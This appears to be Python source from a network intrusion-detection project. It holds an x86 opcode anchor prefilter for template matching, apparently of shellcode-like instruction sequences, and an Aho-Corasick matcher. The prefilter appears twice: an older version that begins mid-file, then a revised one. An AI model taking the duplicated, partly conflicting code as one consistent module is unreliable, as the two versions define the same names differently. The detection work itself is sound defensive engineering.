    "sub": _singles(0x28, 0x29, 0x18, 0x19) | _GROUP1_IMM | _INCDEC_RM,
    "xor": _singles(0x30, 0x31) | _GROUP1_IMM,
    "or": _singles(0x08, 0x09) | _GROUP1_IMM,
    "and": _singles(0x20, 0x21) | _GROUP1_IMM,
    "shl": _SHIFT_RM,
    "shr": _SHIFT_RM,
    "sar": _SHIFT_RM,
    "rol": _SHIFT_RM,
    "ror": _SHIFT_RM,
    "not": _singles(0xF6, 0xF7),
    "neg": _singles(0xF6, 0xF7),
}

# ``Assign(src=Load(mem))`` with a register base (LoadFrom): mov r,rm
# (8A/8B), xchg reg,mem (86/87 — lifts to a Load assign plus a store),
# lodsb/lodsd (AC/AD — Load through esi), movzx/movsx from memory
# (0F B6/B7/BE/BF).  The moffs loads (A0/A1) produce a base-less MemRef
# that LoadFrom provably rejects (``_mem_base_reg`` returns None), so
# they are deliberately not anchors.
_LOAD_PRODUCERS = (_singles(0x86, 0x87, 0x8A, 0x8B, 0xAC, 0xAD)
                   | frozenset(bytes([0x0F, b])
                               for b in (0xB6, 0xB7, 0xBE, 0xBF)))

# ``Store(src=Reg)`` with a register base (StoreTo): mov rm,r (88/89)
# only — every other store form lifts with a BinOp/UnOp/Const/Unknown
# source, and the moffs stores (A2/A3) are base-less like the loads.
_STORETO_PRODUCERS = _singles(0x88, 0x89)

# ``Branch`` with a *known* target in the jmp/jcc/loop family (LoopBack):
# short jcc (70-7F), loops + jecxz (E0-E3), jmp rel (E9/EB), near jcc
# (0F 80-8F).  ``jmp r/m`` (FF /4) and ``call`` decode with no target
# and cannot satisfy LoopBack.
_LOOPBACK_PRODUCERS = (_singles(*range(0x70, 0x80), 0xE0, 0xE1, 0xE2, 0xE3,
                                0xE9, 0xEB)
                       | frozenset(bytes([0x0F, b])
                                   for b in range(0x80, 0x90)))

# ``Push`` statements: push r32 (50-57), pushad (60 — eight pushes),
# push imm (68/6A), push r/m (FF /6).
_PUSH_PRODUCERS = _singles(*range(0x50, 0x58), 0x60, 0x68, 0x6A, 0xFF)

# ``Store`` whose source expression can resolve to a constant — directly
# (mov rm,imm: C6/C7) or through constant propagation of a register
# source (mov rm,r: 88/89; mov moffs,acc: A2/A3).  ALU/shift stores
# carry BinOp/UnOp sources that ``_resolve`` provably rejects.
_CONST_STORE_PRODUCERS = _singles(0x88, 0x89, 0xA2, 0xA3, 0xC6, 0xC7)

# ``Branch(kind="call", target=None)`` (IndirectCall): call r/m (FF /2)
# only — call rel32 (E8) decodes with a concrete target.
_CALL_RM_PRODUCERS = _singles(0xFF)


def _node_patterns(node: Node) -> frozenset[bytes] | None:
    """The complete producer byte patterns for one node, or ``None`` when
    the node is not soundly anchorable."""
    if isinstance(node, MemRmw):
        out: frozenset[bytes] = frozenset()
        for op in node.ops:
            producers = _RMW_PRODUCERS.get(op)
            if producers is None:
                return None  # unknown op: refuse to anchor (sound)
            out |= producers
        return out or None
    if isinstance(node, LoadFrom):
        return _LOAD_PRODUCERS
    if isinstance(node, StoreTo):
        return _STORETO_PRODUCERS
    if isinstance(node, LoopBack):
        return _LOOPBACK_PRODUCERS
    if isinstance(node, Syscall):
        if not 0 <= node.vector <= 0xFF:
            return None
        patterns = {bytes([0xCD, node.vector])}
        if node.vector == 3:
            patterns.add(b"\xCC")  # int3 also lifts to Interrupt(3)
        return frozenset(patterns)
    if isinstance(node, (ConstBytesWrite, ConstCapture)):
        return _PUSH_PRODUCERS | _CONST_STORE_PRODUCERS
    if isinstance(node, PushValue):
        return _PUSH_PRODUCERS
    if isinstance(node, IndirectCall):
        return _CALL_RM_PRODUCERS
    # PointerStep / RegCompute / RegFromEsp / unknown future nodes:
    # producer sets too broad (or unenumerated) to anchor soundly.
    return None


@dataclass(frozen=True)
class AnchorClause:
    """One CNF clause: the frame must contain >= 1 of these patterns for
    the owning template's ``label`` node to be satisfiable."""

    label: str
    patterns: frozenset[bytes]


@dataclass(frozen=True)
class TemplateAnchors:
    """The compiled necessary conditions of one template."""

    template_name: str
    clauses: tuple[AnchorClause, ...]
    always_scan: bool = False


def derive_anchors(template: Template) -> TemplateAnchors:
    """Derive the anchor clause set of one template.

    Optional nodes (``repeats`` minimum of 0) are not necessary and so
    contribute no clause.  A template yielding zero clauses — or flagged
    ``always_scan`` — is never prefiltered.
    """
    if template.always_scan:
        return TemplateAnchors(template.name, (), always_scan=True)
    clauses: list[AnchorClause] = []
    for i, node in enumerate(template.nodes):
        min_rep = template.repeats.get(i, (1, 1))[0]
        if min_rep < 1:
            continue  # optional node: not a necessary condition
        patterns = _node_patterns(node)
        if patterns:
            clauses.append(AnchorClause(label=type(node).__name__,
                                        patterns=patterns))
    if not clauses:
        return TemplateAnchors(template.name, (), always_scan=True)
    return TemplateAnchors(template.name, tuple(clauses))


@dataclass
class PrefilterScan:
    """Result of one prefilter pass over a frame.

    The scan records only *which* anchor patterns occur (plus a total
    occurrence count for the metrics): frame survival is a pure presence
    question, and start-position pruning matches clause patterns against
    decoded instruction encodings rather than frame offsets, so keeping
    per-pattern offset lists would be pay-for-nothing work on every
    frame.
    """

    #: template name -> survives (False = soundly ruled out)
    survivors: dict[str, bool]
    #: ids of anchor patterns occurring at least once in the frame
    present: frozenset[int]
    #: total anchor occurrences found in the frame
    anchor_hits: int = 0

    @property
    def any_survivor(self) -> bool:
        return any(self.survivors.values())

    def survives(self, name: str) -> bool:
        # Unknown templates are never filtered (sound default).
        return self.survivors.get(name, True)


class CompiledPrefilter:
    """All templates' anchor clauses compiled into one automaton.

    One :meth:`scan` pass answers, per template, "can this frame possibly
    match?" and yields the anchor occurrence offsets the match engine
    uses to prune candidate start positions.
    """

    def __init__(self, templates: list[Template]) -> None:
        self.anchors = [derive_anchors(t) for t in templates]
        self._pattern_ids: dict[bytes, int] = {}
        #: template name -> list of per-clause frozensets of pattern ids
        self.clause_ids: dict[str, list[frozenset[int]]] = {}
        for anchors in self.anchors:
            clause_ids: list[frozenset[int]] = []
            for clause in anchors.clauses:
                ids = frozenset(self._intern(p)
                                for p in sorted(clause.patterns))
                clause_ids.append(ids)
            self.clause_ids[anchors.template_name] = clause_ids
        self.patterns: list[bytes] = sorted(self._pattern_ids,
                                            key=self._pattern_ids.get)
        self.pattern_lengths = {pid: len(p)
                                for p, pid in self._pattern_ids.items()}
        # Scan plan: anchor patterns are opcode prefixes, so in practice
        # they are 1-2 bytes — both scannable as one vectorized table
        # gather over the frame.  Anything longer (future templates)
        # falls back to the Aho-Corasick automaton.
        self._len1_table: np.ndarray | None = None
        self._len2_table: np.ndarray | None = None
        long_patterns: list[bytes] = []
        self._long_pids: list[int] = []
        for pattern, pid in self._pattern_ids.items():
            if len(pattern) == 1:
                if self._len1_table is None:
                    self._len1_table = np.full(256, -1, dtype=np.int16)
                self._len1_table[pattern[0]] = pid
            elif len(pattern) == 2:
                if self._len2_table is None:
                    self._len2_table = np.full(65536, -1, dtype=np.int32)
                self._len2_table[(pattern[0] << 8) | pattern[1]] = pid
            else:
                long_patterns.append(pattern)
                self._long_pids.append(pid)
        self.automaton = (AhoCorasick(long_patterns)
                          if long_patterns else None)
        self.always_scan = {a.template_name for a in self.anchors
                            if a.always_scan}
        # Start-pruning form of each clause: the pattern bytes as integer
        # keys matchable against a decoded instruction's post-prefix
        # leading bytes (see anchor_cum).  Patterns longer than two bytes
        # (none today) disable pruning for their clause — a sound
        # weakening; the frame-level scan still uses them.
        self.clause_prune: dict[str, list[tuple[frozenset[int],
                                                np.ndarray, np.ndarray,
                                                bool]]] = {}
        for anchors in self.anchors:
            entries = []
            for ids in self.clause_ids[anchors.template_name]:
                ones: list[int] = []
                twos: list[int] = []
                has_long = False
                for pid in sorted(ids):
                    pattern = self.patterns[pid]
                    if len(pattern) == 1:
                        ones.append(pattern[0])
                    elif len(pattern) == 2:
                        twos.append((pattern[0] << 8) | pattern[1])
                    else:
                        has_long = True
                entries.append((ids,
                                np.asarray(sorted(ones), dtype=np.int32),
                                np.asarray(sorted(twos), dtype=np.int32),
                                has_long))
            self.clause_prune[anchors.template_name] = entries

    def _intern(self, pattern: bytes) -> int:
        if pattern not in self._pattern_ids:
            self._pattern_ids[pattern] = len(self._pattern_ids)
        return self._pattern_ids[pattern]

    def scan(self, data) -> PrefilterScan:
        """One vectorized multi-pattern pass; verdicts for every compiled
        template."""
        arr = np.frombuffer(data, dtype=np.uint8)
        present: set[int] = set()
        hits = 0
        if self._len1_table is not None and arr.size:
            # Byte histogram once; a pattern is present iff its byte
            # value occurs, and its occurrence count is the byte count.
            counts = np.bincount(arr, minlength=256)
            seen = self._len1_table[counts > 0]
            present.update(seen[seen >= 0].tolist())
            hits += int(counts[self._len1_table >= 0].sum())
        if self._len2_table is not None and arr.size > 1:
            pairs = (arr[:-1].astype(np.int32) << 8) | arr[1:]
            pids = self._len2_table[pairs]
            hit = pids >= 0
            n_hits = int(np.count_nonzero(hit))
            if n_hits:
                hits += n_hits
                present.update(np.unique(pids[hit]).tolist())
        if self.automaton is not None:
            for m in self.automaton.search(bytes(data)):
                present.add(self._long_pids[m.pattern])
                hits += 1
        survivors = {
            anchors.template_name: (
                anchors.always_scan
                or all(ids & present
                       for ids in self.clause_ids[anchors.template_name])
            )
            for anchors in self.anchors
        }
        return PrefilterScan(survivors=survivors,
                             present=frozenset(present), anchor_hits=hits)

    def clause_hits(
        self, name: str, scan: PrefilterScan
    ) -> list[tuple[frozenset[int], np.ndarray, np.ndarray, bool]] | None:
        """Start-pruning information for a surviving template: one
        ``(pattern-id key, 1-byte keys, 2-byte keys, has_long)`` tuple
        per necessary-condition clause.  The key lets callers cache
        derived per-trace data across templates sharing a clause; the
        sorted integer arrays are matched against each decoded
        instruction's post-prefix leading bytes by
        :meth:`repro.core.matcher.PreparedTrace.anchor_cum`.  ``None``
        for always-scan templates (no pruning information)."""
        if name in self.always_scan:
            return None
        return self.clause_prune.get(name) or None


def compile_prefilter(templates: list[Template]) -> CompiledPrefilter:
    """Compile the prefilter for a template set."""
    return CompiledPrefilter(templates)

"""Template anchor compiler: necessary-condition byte prefiltering.

For each template node kind we derive the *complete* set of opcode byte
patterns whose instructions could lift (:mod:`repro.ir.lift`) to a
statement satisfying that node.  Because a decoded instruction's raw
bytes are a contiguous substring of the frame, a frame that contains no
byte of a node's producer set cannot contain any instruction able to
satisfy that node — anywhere, under any disassembly offset the sweep
tries.  That makes each derived pattern set a **necessary condition**:

- per template, every anchorable node contributes one *clause* (a set of
  byte patterns, at least one of which must occur in the frame);
- a template can match a frame only if **every** clause is hit (CNF);
- a frame can be skipped entirely only if every template is ruled out.

Soundness rests on two properties, both pinned by tests:

1. *Producer completeness*: the per-node sets below enumerate every
   opcode the disassembler (:mod:`repro.x86.disasm`) decodes into an
   instruction the lifter turns into a node-satisfying statement.
   Over-approximating (listing extra opcodes) only costs performance;
   under-approximating would lose detections, so nodes whose producer
   sets are broad or hard to pin down (``PointerStep``, ``RegCompute``,
   ``RegFromEsp`` — satisfiable by ``inc``/``dec``/``lea``/plain ALU
   bytes that are ubiquitous in text and binary data) contribute **no
   clause**, which is a sound weakening.
2. *Encoding-prefix form*: every pattern is the leading byte(s) of the
   producing instruction's encoding once legacy prefixes are stripped
   (``cd 80`` = opcode + immediate, ``0f 8x`` = the two-byte opcode), so
   a decoded instruction can satisfy a node only if its own post-prefix
   leading bytes equal one of the node's patterns — which is what lets
   the matcher prune candidate start positions per instruction
   (:meth:`repro.core.matcher.PreparedTrace.anchor_cum`), a strictly
   stronger check than looking for the bytes anywhere in the frame.

A template for which no clause can be derived is treated as
``always_scan`` (never prefiltered); templates may also opt out
explicitly via :attr:`repro.core.template.Template.always_scan`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..core.template import (
    ConstBytesWrite,
    ConstCapture,
    IndirectCall,
    LoadFrom,
    LoopBack,
    MemRmw,
    Node,
    PushValue,
    StoreTo,
    Syscall,
    Template,
)
from .multimatch import VectorScanSet

__all__ = [
    "AnchorClause",
    "TemplateAnchors",
    "CompiledPrefilter",
    "PrefilterScan",
    "compile_prefilter",
    "derive_anchors",
]


def _singles(*codes: int) -> frozenset[bytes]:
    return frozenset(bytes([c]) for c in codes)


def _modrm_bytes(digits, require_base: bool,
                 include_reg: bool) -> list[int]:
    """All ModRM byte values whose reg field is in ``digits`` and whose
    mod/rm encode an eligible operand form.

    ``require_base=True`` keeps only memory forms with a decodable base
    register: mod 00/01/10, excluding the base-less ``[disp32]`` form
    (mod=00, rm=101) that ``_mem_base_reg`` provably rejects.  SIB forms
    (rm=100) are kept — they may carry a base.  ``include_reg=True``
    additionally admits register operands (mod=11), for group opcodes
    whose register forms also lift to the node's shape.
    """
    out = []
    for modrm in range(256):
        if ((modrm >> 3) & 7) not in digits:
            continue
        mod = modrm >> 6
        if mod == 3:
            if not include_reg:
                continue
        elif require_base and mod == 0 and (modrm & 7) == 5:
            continue
        out.append(modrm)
    return out


_ALL_DIGITS = frozenset(range(8))


def _opmod(opcodes, digits=_ALL_DIGITS, require_base: bool = True,
           include_reg: bool = False) -> frozenset[bytes]:
    """Two-byte ``opcode + ModRM`` patterns for the given opcodes, with
    the reg field constrained to ``digits`` (the /n of group opcodes)."""
    modrms = _modrm_bytes(digits, require_base, include_reg)
    return frozenset(bytes([op, modrm])
                     for op in opcodes for modrm in modrms)


# Opcodes whose memory-destination forms lift to the read-modify-write
# ``Store(src=BinOp(op, Load(mem), ...))`` / ``Store(src=UnOp(op, ...))``
# shape MemRmw matches, per lifted (normalized) operation name.  Every
# producer is a full ``opcode + ModRM`` pair: group opcodes (0x80-0x83
# immediates, 0xFE/0xFF inc/dec, 0xC0/0xC1/0xD0-0xD3 shifts, 0xF6/0xF7
# not/neg) select the operation via the ModRM reg field, so pinning the
# digit excludes the unrelated group members (e.g. ``cmp`` at /7, which
# lifts to Compare, not Store) — and requiring a based memory form
# excludes the register destinations MemRmw cannot match.  Digit maps
# follow the lifter's normalization: adc->add, sbb->sub, sal->shl,
# rcl->rol, rcr->ror.
_GROUP1 = (0x80, 0x81, 0x82, 0x83)
_SHIFT_OPS = (0xC0, 0xC1, 0xD0, 0xD1, 0xD2, 0xD3)
_RMW_PRODUCERS: dict[str, frozenset[bytes]] = {
    "add": (_opmod((0x00, 0x01, 0x10, 0x11)) | _opmod(_GROUP1, {0, 2})
            | _opmod((0xFE, 0xFF), {0})),
    "sub": (_opmod((0x28, 0x29, 0x18, 0x19)) | _opmod(_GROUP1, {3, 5})
            | _opmod((0xFE, 0xFF), {1})),
    "xor": _opmod((0x30, 0x31)) | _opmod(_GROUP1, {6}),
    "or": _opmod((0x08, 0x09)) | _opmod(_GROUP1, {1}),
    "and": _opmod((0x20, 0x21)) | _opmod(_GROUP1, {4}),
    "shl": _opmod(_SHIFT_OPS, {4, 6}),
    "shr": _opmod(_SHIFT_OPS, {5}),
    "sar": _opmod(_SHIFT_OPS, {7}),
    "rol": _opmod(_SHIFT_OPS, {0, 2}),
    "ror": _opmod(_SHIFT_OPS, {1, 3}),
    "not": _opmod((0xF6, 0xF7), {2}),
    "neg": _opmod((0xF6, 0xF7), {3}),
}

# ``Assign(src=Load(mem))`` with a register base (LoadFrom): mov r,rm
# (8A/8B), xchg reg,mem (86/87 — lifts to a Load assign plus a store),
# lodsb/lodsd (AC/AD — Load through esi, no ModRM), movzx/movsx from
# memory (0F B6/B7/BE/BF + ModRM, three-byte patterns).  All ModRM forms
# are based-memory only: register sources lift to plain register
# assigns, and the moffs loads (A0/A1) produce a base-less MemRef that
# LoadFrom provably rejects (``_mem_base_reg`` returns None).
_LOAD_PRODUCERS = (_opmod((0x86, 0x87, 0x8A, 0x8B))
                   | _singles(0xAC, 0xAD)
                   | frozenset(bytes([0x0F, op, modrm])
                               for op in (0xB6, 0xB7, 0xBE, 0xBF)
                               for modrm in _modrm_bytes(_ALL_DIGITS, True,
                                                         False)))

# ``Store(src=Reg)`` with a register base (StoreTo): mov rm,r (88/89)
# only — every other store form lifts with a BinOp/UnOp/Const/Unknown
# source, and the moffs stores (A2/A3) are base-less like the loads.
_STORETO_PRODUCERS = _opmod((0x88, 0x89))

# ``Branch`` with a *known* target in the jmp/jcc/loop family (LoopBack):
# short jcc (70-7F), loops + jecxz (E0-E3), jmp rel (E9/EB), near jcc
# (0F 80-8F).  ``jmp r/m`` (FF /4) and ``call`` decode with no target
# and cannot satisfy LoopBack.
_LOOPBACK_PRODUCERS = (_singles(*range(0x70, 0x80), 0xE0, 0xE1, 0xE2, 0xE3,
                                0xE9, 0xEB)
                       | frozenset(bytes([0x0F, b])
                                   for b in range(0x80, 0x90)))

# Relative-branch geometry of the LoopBack producers, used by the
# positional in-frame-target screen: opcode byte at frame offset ``p``
# jumps to ``p + size + rel`` where ``rel`` immediately follows the
# opcode.  Branch displacement widths are prefix-independent (the
# operand-size prefix does not shrink branch immediates in this decoder),
# so the arithmetic holds wherever the opcode sits in an instruction.
_LOOPBACK_REL8 = frozenset(range(0x70, 0x80)) | {0xE0, 0xE1, 0xE2, 0xE3,
                                                 0xEB}

# ``Push`` statements: push r32 (50-57), pushad (60 — eight pushes),
# push imm (68/6A), and the group-5 push (FF /6 — all ModRM forms:
# ``push r32`` via mod=11 and ``push [mem]`` both lift to Push).
_PUSH_PRODUCERS = (_singles(*range(0x50, 0x58), 0x60, 0x68, 0x6A)
                   | _opmod((0xFF,), {6}, require_base=False,
                            include_reg=True))

# ``Store`` whose source expression can resolve to a constant — directly
# (mov rm,imm: C6/C7 /0) or through constant propagation of a register
# source (mov rm,r: 88/89; mov moffs,acc: A2/A3).  ALU/shift stores
# carry BinOp/UnOp sources that ``_resolve`` provably rejects.  No base
# requirement: the consuming nodes (ConstBytesWrite/ConstCapture) accept
# any store destination, ``[disp32]`` included.
_CONST_STORE_PRODUCERS = (_opmod((0x88, 0x89), require_base=False)
                          | _singles(0xA2, 0xA3)
                          | _opmod((0xC6, 0xC7), {0}, require_base=False))

# ``Branch(kind="call", target=None)`` (IndirectCall): call r/m (FF /2)
# only, register and memory forms alike — call rel32 (E8) decodes with a
# concrete target, and the other group-5 digits are not calls.
_CALL_RM_PRODUCERS = _opmod((0xFF,), {2}, require_base=False,
                            include_reg=True)


def _node_patterns(node: Node) -> frozenset[bytes] | None:
    """The complete producer byte patterns for one node, or ``None`` when
    the node is not soundly anchorable."""
    if isinstance(node, MemRmw):
        out: frozenset[bytes] = frozenset()
        for op in node.ops:
            producers = _RMW_PRODUCERS.get(op)
            if producers is None:
                return None  # unknown op: refuse to anchor (sound)
            out |= producers
        return out or None
    if isinstance(node, LoadFrom):
        return _LOAD_PRODUCERS
    if isinstance(node, StoreTo):
        return _STORETO_PRODUCERS
    if isinstance(node, LoopBack):
        return _LOOPBACK_PRODUCERS
    if isinstance(node, Syscall):
        if not 0 <= node.vector <= 0xFF:
            return None
        patterns = {bytes([0xCD, node.vector])}
        if node.vector == 3:
            patterns.add(b"\xCC")  # int3 also lifts to Interrupt(3)
        return frozenset(patterns)
    if isinstance(node, (ConstBytesWrite, ConstCapture)):
        return _PUSH_PRODUCERS | _CONST_STORE_PRODUCERS
    if isinstance(node, PushValue):
        return _PUSH_PRODUCERS
    if isinstance(node, IndirectCall):
        return _CALL_RM_PRODUCERS
    # PointerStep / RegCompute / RegFromEsp / unknown future nodes:
    # producer sets too broad (or unenumerated) to anchor soundly.
    return None


def _loopback_target_in_frame(arr: np.ndarray) -> bool:
    """Positional necessary condition for LoopBack: some occurrence of a
    relative-branch opcode byte jumps to an offset *inside* the frame.

    A decoded branch satisfying LoopBack must have its target resolve to
    a decoded trace position, and every decoded instruction's address
    lies in ``[base, base + len(frame))`` — so the branch's target offset
    ``p + size + rel`` (prefix-independent, see ``_LOOPBACK_REL8``) must
    land in ``[0, len(frame))``.  Scanning every occurrence of the
    producer bytes over-approximates the set of decodable branches, so a
    frame where no occurrence targets in-frame provably cannot satisfy
    LoopBack under any disassembly offset.
    """
    n = int(arr.size)
    if n < 2:
        return False
    rel8 = _REL8_LOOKUP[arr[:-1]]
    idx = np.flatnonzero(rel8)
    if idx.size:
        rel = arr[idx + 1].astype(np.int64)
        rel = np.where(rel >= 128, rel - 256, rel)
        target = idx + 2 + rel
        if bool(np.any((target >= 0) & (target < n))):
            return True
    if n >= 5:
        idx = np.flatnonzero(arr[:n - 4] == 0xE9)
        if idx.size:
            target = idx + 5 + _rel32(arr, idx + 1)
            if bool(np.any((target >= 0) & (target < n))):
                return True
    if n >= 6:
        idx = np.flatnonzero(arr[:n - 5] == 0x0F)
        if idx.size:
            second = arr[idx + 1]
            idx = idx[(second >= 0x80) & (second <= 0x8F)]
        if idx.size:
            target = idx + 6 + _rel32(arr, idx + 2)
            if bool(np.any((target >= 0) & (target < n))):
                return True
    return False


_REL8_LOOKUP = np.zeros(256, dtype=bool)
for _b in _LOOPBACK_REL8:
    _REL8_LOOKUP[_b] = True
del _b


def _rel32(arr: np.ndarray, at: np.ndarray) -> np.ndarray:
    """Signed little-endian 32-bit displacements read at ``at``."""
    rel = (arr[at].astype(np.int64)
           | (arr[at + 1].astype(np.int64) << 8)
           | (arr[at + 2].astype(np.int64) << 16)
           | (arr[at + 3].astype(np.int64) << 24))
    return np.where(rel >= 1 << 31, rel - (1 << 32), rel)


@dataclass(frozen=True)
class AnchorClause:
    """One CNF clause: the frame must contain >= 1 of these patterns for
    the owning template's ``label`` node to be satisfiable."""

    label: str
    patterns: frozenset[bytes]


@dataclass(frozen=True)
class TemplateAnchors:
    """The compiled necessary conditions of one template."""

    template_name: str
    clauses: tuple[AnchorClause, ...]
    always_scan: bool = False


def derive_anchors(template: Template) -> TemplateAnchors:
    """Derive the anchor clause set of one template.

    Optional nodes (``repeats`` minimum of 0) are not necessary and so
    contribute no clause.  A template yielding zero clauses — or flagged
    ``always_scan`` — is never prefiltered.
    """
    if template.always_scan:
        return TemplateAnchors(template.name, (), always_scan=True)
    clauses: list[AnchorClause] = []
    for i, node in enumerate(template.nodes):
        min_rep = template.repeats.get(i, (1, 1))[0]
        if min_rep < 1:
            continue  # optional node: not a necessary condition
        patterns = _node_patterns(node)
        if patterns:
            clauses.append(AnchorClause(label=type(node).__name__,
                                        patterns=patterns))
    if not clauses:
        return TemplateAnchors(template.name, (), always_scan=True)
    return TemplateAnchors(template.name, tuple(clauses))


@dataclass
class PrefilterScan:
    """Result of one prefilter pass over a frame.

    The scan records only *which* anchor patterns occur (plus a total
    occurrence count for the metrics): frame survival is a pure presence
    question, and start-position pruning matches clause patterns against
    decoded instruction encodings rather than frame offsets, so keeping
    per-pattern offset lists would be pay-for-nothing work on every
    frame.
    """

    #: template name -> survives (False = soundly ruled out)
    survivors: dict[str, bool]
    #: ids of anchor patterns occurring at least once in the frame
    present: frozenset[int]
    #: total anchor occurrences found in the frame
    anchor_hits: int = 0

    @property
    def any_survivor(self) -> bool:
        return any(self.survivors.values())

    def survives(self, name: str) -> bool:
        # Unknown templates are never filtered (sound default).
        return self.survivors.get(name, True)


class CompiledPrefilter:
    """All templates' anchor clauses compiled into one automaton.

    One :meth:`scan` pass answers, per template, "can this frame possibly
    match?" and yields the anchor occurrence offsets the match engine
    uses to prune candidate start positions.
    """

    def __init__(self, templates: list[Template]) -> None:
        self.anchors = [derive_anchors(t) for t in templates]
        self._pattern_ids: dict[bytes, int] = {}
        #: template name -> list of per-clause frozensets of pattern ids
        self.clause_ids: dict[str, list[frozenset[int]]] = {}
        for anchors in self.anchors:
            clause_ids: list[frozenset[int]] = []
            for clause in anchors.clauses:
                ids = frozenset(self._intern(p)
                                for p in sorted(clause.patterns))
                clause_ids.append(ids)
            self.clause_ids[anchors.template_name] = clause_ids
        self.patterns: list[bytes] = sorted(self._pattern_ids,
                                            key=self._pattern_ids.get)
        self.pattern_lengths = {pid: len(p)
                                for p, pid in self._pattern_ids.items()}
        # Scan plan: one vectorized presence pass over all patterns
        # (1-3 bytes today; anything longer falls back to Aho-Corasick
        # inside the scan set).
        self.scan_set = VectorScanSet(self.patterns)
        self.always_scan = {a.template_name for a in self.anchors
                            if a.always_scan}
        #: templates whose anchor clauses include a required LoopBack —
        #: additionally gated by the positional in-frame-target screen.
        self.loopback_gated = {
            a.template_name for a in self.anchors
            if any(c.label == "LoopBack" for c in a.clauses)}
        # Start-pruning form of each clause: the pattern bytes as integer
        # keys matchable against a decoded instruction's post-prefix
        # leading bytes (see anchor_cum).  A three-byte pattern (0F-map
        # opcode + ModRM) contributes its two-byte opcode prefix — the
        # producing instruction's post-prefix leading bytes necessarily
        # begin with it, so the weaker two-byte key is still a sound
        # filter.  Patterns of 4+ bytes (none today) disable pruning for
        # their clause; the frame-level scan still uses them.
        self.clause_prune: dict[str, list[tuple[frozenset[int],
                                                np.ndarray, np.ndarray,
                                                bool]]] = {}
        for anchors in self.anchors:
            entries = []
            for ids in self.clause_ids[anchors.template_name]:
                ones: set[int] = set()
                twos: set[int] = set()
                has_long = False
                for pid in sorted(ids):
                    pattern = self.patterns[pid]
                    if len(pattern) == 1:
                        ones.add(pattern[0])
                    elif len(pattern) == 2:
                        twos.add((pattern[0] << 8) | pattern[1])
                    elif len(pattern) == 3:
                        twos.add((pattern[0] << 8) | pattern[1])
                    else:
                        has_long = True
                entries.append((ids,
                                np.asarray(sorted(ones), dtype=np.int32),
                                np.asarray(sorted(twos), dtype=np.int32),
                                has_long))
            self.clause_prune[anchors.template_name] = entries

    def _intern(self, pattern: bytes) -> int:
        if pattern not in self._pattern_ids:
            self._pattern_ids[pattern] = len(self._pattern_ids)
        return self._pattern_ids[pattern]

    def scan(self, data) -> PrefilterScan:
        """One vectorized multi-pattern pass; verdicts for every compiled
        template."""
        arr = np.frombuffer(data, dtype=np.uint8)
        present, hits = self.scan_set.presence(arr)
        survivors = {
            anchors.template_name: (
                anchors.always_scan
                or all(ids & present
                       for ids in self.clause_ids[anchors.template_name])
            )
            for anchors in self.anchors
        }
        # Positional LoopBack screen, applied only to templates still
        # alive after the presence pass (computed once, lazily: most
        # benign frames die on presence alone).
        loop_ok: bool | None = None
        for name in self.loopback_gated:
            if survivors.get(name):
                if loop_ok is None:
                    loop_ok = _loopback_target_in_frame(arr)
                if not loop_ok:
                    survivors[name] = False
        return PrefilterScan(survivors=survivors,
                             present=frozenset(present), anchor_hits=hits)

    def clause_hits(
        self, name: str, scan: PrefilterScan
    ) -> list[tuple[frozenset[int], np.ndarray, np.ndarray, bool]] | None:
        """Start-pruning information for a surviving template: one
        ``(pattern-id key, 1-byte keys, 2-byte keys, has_long)`` tuple
        per necessary-condition clause.  The key lets callers cache
        derived per-trace data across templates sharing a clause; the
        sorted integer arrays are matched against each decoded
        instruction's post-prefix leading bytes by
        :meth:`repro.core.matcher.PreparedTrace.anchor_cum`.  ``None``
        for always-scan templates (no pruning information)."""
        if name in self.always_scan:
            return None
        return self.clause_prune.get(name) or None


def compile_prefilter(templates: list[Template]) -> CompiledPrefilter:
    """Compile the prefilter for a template set."""
    return CompiledPrefilter(templates)

"""Aho-Corasick multi-pattern matching, from scratch.

Promoted from ``repro.baseline.aho_corasick`` (which re-exports from
here): the automaton now serves double duty.  It remains the substrate
for the Snort-style signature baseline — real signature IDSs match
thousands of byte patterns simultaneously with exactly this machinery —
and it is the scan engine of the fast-path admission prefilter, where
all templates' anchor byte patterns are compiled into one automaton and
every admitted frame takes a single O(n + matches) pass before any
disassembly happens.

Classic construction: a trie over all patterns (goto function), BFS-built
failure links, and output sets merged along failure chains.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

__all__ = ["AhoCorasick", "PatternMatch", "VectorScanSet"]


@dataclass(frozen=True)
class PatternMatch:
    """One occurrence: pattern index and the offset of its first byte."""

    pattern: int
    start: int
    end: int


class AhoCorasick:
    """Multi-pattern byte matcher.

    >>> ac = AhoCorasick([b"he", b"she", b"his", b"hers"])
    >>> [(m.pattern, m.start) for m in ac.search(b"ushers")]
    [(1, 1), (0, 2), (3, 2)]
    """

    def __init__(self, patterns: list[bytes]) -> None:
        if any(not p for p in patterns):
            raise ValueError("empty patterns are not allowed")
        self.patterns = list(patterns)
        # state -> {byte: state}
        self._goto: list[dict[int, int]] = [{}]
        # state -> pattern indices ending here
        self._output: list[list[int]] = [[]]
        self._fail: list[int] = [0]
        for index, pattern in enumerate(self.patterns):
            self._insert(pattern, index)
        self._build_failure_links()

    def _insert(self, pattern: bytes, index: int) -> None:
        state = 0
        for byte in pattern:
            nxt = self._goto[state].get(byte)
            if nxt is None:
                nxt = len(self._goto)
                self._goto.append({})
                self._output.append([])
                self._fail.append(0)
                self._goto[state][byte] = nxt
            state = nxt
        self._output[state].append(index)

    def _build_failure_links(self) -> None:
        queue: deque[int] = deque()
        for state in self._goto[0].values():
            self._fail[state] = 0
            queue.append(state)
        while queue:
            state = queue.popleft()
            for byte, nxt in self._goto[state].items():
                queue.append(nxt)
                fail = self._fail[state]
                while fail and byte not in self._goto[fail]:
                    fail = self._fail[fail]
                self._fail[nxt] = self._goto[fail].get(byte, 0)
                if self._fail[nxt] == nxt:
                    self._fail[nxt] = 0
                self._output[nxt] = (self._output[nxt]
                                     + self._output[self._fail[nxt]])

    def search(self, data: bytes) -> list[PatternMatch]:
        """All occurrences of all patterns in ``data``."""
        out: list[PatternMatch] = []
        state = 0
        for pos, byte in enumerate(data):
            while state and byte not in self._goto[state]:
                state = self._fail[state]
            state = self._goto[state].get(byte, 0)
            for pattern in self._output[state]:
                length = len(self.patterns[pattern])
                out.append(PatternMatch(pattern=pattern,
                                        start=pos - length + 1, end=pos + 1))
        return out

    def contains_any(self, data: bytes) -> bool:
        """Fast boolean scan (stops at the first hit)."""
        state = 0
        for byte in data:
            while state and byte not in self._goto[state]:
                state = self._fail[state]
            state = self._goto[state].get(byte, 0)
            if self._output[state]:
                return True
        return False

